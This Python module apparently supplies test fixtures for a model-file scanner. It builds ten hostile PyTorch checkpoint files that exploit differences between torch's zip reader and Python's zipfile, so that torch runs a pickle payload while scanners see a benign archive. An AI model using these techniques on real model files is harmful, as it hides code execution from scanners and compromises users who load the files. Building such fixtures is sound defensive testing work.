"""Hostile files: zip containers read the way torch's reader (miniz) reads them.

Each builder writes a file whose payload runs under the loader named in its Case (proven by
tests/test_scan.py in a subprocess); CASES is appended to ``hostile.CASES``. Every one of them
is a file that torch's reader and Python's ``zipfile`` (what most scanners use) read
differently: torch runs the payload, zipfile sees a benign archive or none.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

from hostile import POP, STOP, Case, _torch_zip, _write, os_system0, proto, raw_payload


def _entries(path: Path) -> list[tuple[bytes, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(i.filename.encode(), zf.read(i)) for i in zf.infolist()]


def _locals(entries: list[tuple[bytes, bytes]], out: bytearray, *, base: int = 0) -> bytes:
    """Stored local headers and data into ``out``; returns their central directory."""
    central = []
    for name, data in entries:
        crc, offset = zlib.crc32(data), len(out) - base
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0)
        out += name + data
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data),
                                   len(data), len(name), 0, 0, 0, 0, 0, offset) + name)
    return b"".join(central)


def _end(out: bytearray, cd: bytes, cd_offset: int, count: int, *, base: int = 0,
         locator_to: int | None = None) -> None:
    """zip64 record, locator (pointing at ``locator_to`` or the record) and end record, as torch writes them."""
    e64 = len(out) - base
    out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(cd), cd_offset)
    out += struct.pack("<4sIQI", b"PK\x06\x07", 0, e64 if locator_to is None else locator_to, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(cd), cd_offset, 0)


def _zip(entries: list[tuple[bytes, bytes]], *, base_prefix: bytes = b"", relative: bool = True) -> bytes:
    out = bytearray(base_prefix)
    base = len(base_prefix) if relative else 0
    cd = _locals(entries, out, base=base)
    cd_offset = len(out) - base
    out += cd
    _end(out, cd, cd_offset, len(entries), base=base)
    return bytes(out)


def _evil_data_pkl(work: Path, benign: bytes) -> bytes:
    """The payload, then POP, then torch's own data.pkl: the file still loads its weights."""
    return os_system0(work) + POP + benign


def _torch_picks(path: Path, name: str) -> bytes:
    import torch

    return bytes(torch._C.PyTorchFileReader(str(path)).get_record(name))


def _shadowed(work: Path, filename: str, shadow_name: bytes) -> Path:
    """A second ``data.pkl`` (``shadow_name``: same name, or the same in other case) that torch's
    case-insensitive lookup resolves while zipfile's exact lookup (the last of a name) gets the
    real one. Where it goes is found by asking torch's reader."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    benign = dict(entries)[folder + b"data.pkl"]
    evil = _evil_data_pkl(work, benign)
    rest = [e for e in entries if e[0] != folder + b"data.pkl"]
    for padding in range(8):
        # extra small entries change miniz's heap sort, and with it which duplicate a lookup meets
        pad = [(folder + f"extra/{i}".encode(), b"") for i in range(padding)]
        for at in range(len(rest) + 1):
            others = [*rest[:at], (folder + shadow_name, evil), *rest[at:], *pad]
            # zipfile keeps the last of two equal names: the real data.pkl goes last
            path = _write(work, filename, _zip([*others, (folder + b"data.pkl", benign)]))
            if _torch_picks(path, "data.pkl") == evil:
                with zipfile.ZipFile(path) as zf:
                    assert zf.read((folder + b"data.pkl").decode()) == benign
                return path
    raise AssertionError("no layout makes torch pick the shadow entry")


def b_zip_shadowed_data_pkl_case(work: Path) -> Path:
    return _shadowed(work, "shadow_case.pt", b"data.PKL")


def b_zip_duplicate_data_pkl(work: Path) -> Path:
    return _shadowed(work, "shadow_dup.pt", b"data.pkl")


def b_zip64_locator_shadow(work: Path) -> Path:
    """Two zip64 end records: zipfile reads the one right before the locator (the real archive),
    torch's reader the one the locator points to (a second directory whose data.pkl runs the payload)."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    benign = dict(entries)[folder + b"data.pkl"]
    shadow = [(n, _evil_data_pkl(work, d) if n == folder + b"data.pkl" else d) for n, d in entries]
    out = bytearray()
    cd = _locals(entries, out)
    shadow_cd = _locals(shadow, out)
    shadow_offset = len(out)
    out += shadow_cd
    shadow_e64 = len(out)
    out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, len(shadow), len(shadow), len(shadow_cd),
                       shadow_offset)
    cd_offset = len(out)
    out += cd
    _end(out, cd, cd_offset, len(entries), locator_to=shadow_e64)
    path = _write(work, "zip64_shadow.pt", bytes(out))
    with zipfile.ZipFile(path) as zf:
        assert zf.read((folder + b"data.pkl").decode()) == benign
    return path


def b_zip_prepended_archive(work: Path) -> Path:
    """A hostile archive prepended to the real one, both of the same layout: torch's reader counts
    offsets from byte 0 and reads the first; zipfile shifts them by the prepended bytes and reads
    the second (the end record is the real archive's)."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    benign = dict(entries)[folder + b"data.pkl"]
    payload = raw_payload(work)
    evil = payload + b"\0" * (len(benign) - len(payload)) if len(payload) <= len(benign) else payload
    if len(evil) != len(benign):
        raise AssertionError("the payload does not fit in data.pkl")
    hostile = [(n, evil if n == folder + b"data.pkl" else d) for n, d in entries]
    first = bytearray()
    cd = _locals(hostile, first)
    first += cd                      # its end records are left out: only the real ones follow
    path = _write(work, "prepended.pt", bytes(first) + _zip(entries))
    with zipfile.ZipFile(path) as zf:
        assert zf.read((folder + b"data.pkl").decode()) == benign
    return path


def b_zip_end_record_in_last_bytes(work: Path) -> Path:
    """A truncated end-record signature in the last bytes: zipfile takes it and refuses the file
    (so do the scanners built on it); torch's reader skips it (fewer than 22 bytes follow)."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    data = [(n, _evil_data_pkl(work, d) if n == folder + b"data.pkl" else d) for n, d in entries]
    return _write(work, "eocd_tail.pt", _zip(data) + b"PK\x05\x06" + b"\0" * 8)


def b_zip_nul_name_decoy(work: Path) -> Path:
    """``data.pkl\\0x`` after the real entry: zipfile cuts names at a NUL, so its ``data.pkl`` is the
    decoy; torch's lookup compares whole names and reads the hostile one."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    benign = dict(entries)[folder + b"data.pkl"]
    data = [(n, _evil_data_pkl(work, d) if n == folder + b"data.pkl" else d) for n, d in entries]
    return _write(work, "nul_decoy.pt", _zip([*data, (folder + b"data.pkl\x00x", benign)]))


def b_zip_entries_past_the_count(work: Path) -> Path:
    """The end record counts the real entries; a decoy data.pkl follows in the directory. zipfile
    reads the directory by its byte size (the decoy, last, wins), torch's reader by the count."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    benign = dict(entries)[folder + b"data.pkl"]
    data = [(n, _evil_data_pkl(work, d) if n == folder + b"data.pkl" else d) for n, d in entries]
    out = bytearray()
    cd = _locals([*data, (folder + b"data.pkl", benign)], out)
    cd_offset = len(out)
    out += cd
    e64 = len(out)
    count = len(data)
    out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(cd), cd_offset)
    out += struct.pack("<4sIQI", b"PK\x06\x07", 0, e64, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(cd), cd_offset, 0)
    path = _write(work, "past_count.pt", bytes(out))
    with zipfile.ZipFile(path) as zf:
        assert zf.read((folder + b"data.pkl").decode()) == benign
    return path


def b_zip_pickle_prefix_absolute(work: Path) -> Path:
    """A pickle, then the archive with offsets counted from the file's first byte: torch.load reads
    the pickle (the file does not start with a local header), torch's zip reader and zipfile both
    read the archive (torch.jit.load, PyTorchFileReader, zip tools)."""
    entries = _entries(_torch_zip(work))
    return _write(work, "pickle_absolute.pt", _zip(entries, base_prefix=proto(2) + os_system0(work) + STOP,
                                                    relative=False))


def b_zip_stored_size_overread(work: Path) -> Path:
    """A stored data.pkl whose compressed size covers 2 bytes and whose uncompressed size covers the
    payload after them: torch reads the uncompressed size from the data start (its check of the two
    sizes is skipped when the entry's time field is not zero), zipfile the 2 bytes."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    evil = proto(2) + os_system0(work) + STOP
    out = bytearray()
    central = []
    for name, data in entries:
        offset = len(out)
        if name == folder + b"data.pkl":
            data, csize, usize, time = evil, 2, len(evil), 1
        else:
            csize = usize = len(data)
            time = 0
        crc = zlib.crc32(data[:csize])
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, time, 0, crc, csize, usize, len(name), 0)
        out += name + data
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, time, 0, crc, csize, usize,
                                   len(name), 0, 0, 0, 0, 0, offset) + name)
    cd = b"".join(central)
    cd_offset = len(out)
    out += cd
    _end(out, cd, cd_offset, len(entries))
    path = _write(work, "overread.pt", bytes(out))
    with zipfile.ZipFile(path) as zf:
        assert zf.read((folder + b"data.pkl").decode()) == proto(2)
    return path


def b_zip_bad_crc(work: Path) -> Path:
    """A CRC that does not match data.pkl: zipfile refuses the entry (CVE-2025-10156), torch does
    not check it."""
    entries = _entries(_torch_zip(work))
    folder = entries[0][0].split(b"/", 1)[0] + b"/"
    data = [(n, _evil_data_pkl(work, d) if n == folder + b"data.pkl" else d) for n, d in entries]
    raw = bytearray(_zip(data))
    pos = 0
    while (pos := raw.find(b"PK\x01\x02", pos)) >= 0:
        (nlen,) = struct.unpack_from("<H", raw, pos + 28)
        if raw[pos + 46:pos + 46 + nlen].endswith(b"/data.pkl"):
            raw[pos + 16] ^= 0xFF
        pos += 4
    return _write(work, "bad_crc.pt", bytes(raw))


CASES: tuple[Case, ...] = (
    Case("zip-shadowed-data-PKL", b_zip_shadowed_data_pkl_case, "torch"),
    Case("zip-duplicate-data-pkl", b_zip_duplicate_data_pkl, "torch"),
    Case("zip64-locator-shadow", b_zip64_locator_shadow, "torch"),
    Case("zip-prepended-archive", b_zip_prepended_archive, "torch"),
    Case("zip-end-record-in-last-bytes", b_zip_end_record_in_last_bytes, "torch"),
    Case("zip-nul-name-decoy", b_zip_nul_name_decoy, "torch"),
    Case("zip-entries-past-the-count", b_zip_entries_past_the_count, "torch"),
    Case("zip-pickle-prefix-absolute", b_zip_pickle_prefix_absolute, "torch"),
    Case("zip-stored-size-overread", b_zip_stored_size_overread, "torch"),
    Case("zip-bad-crc", b_zip_bad_crc, "torch"),
)
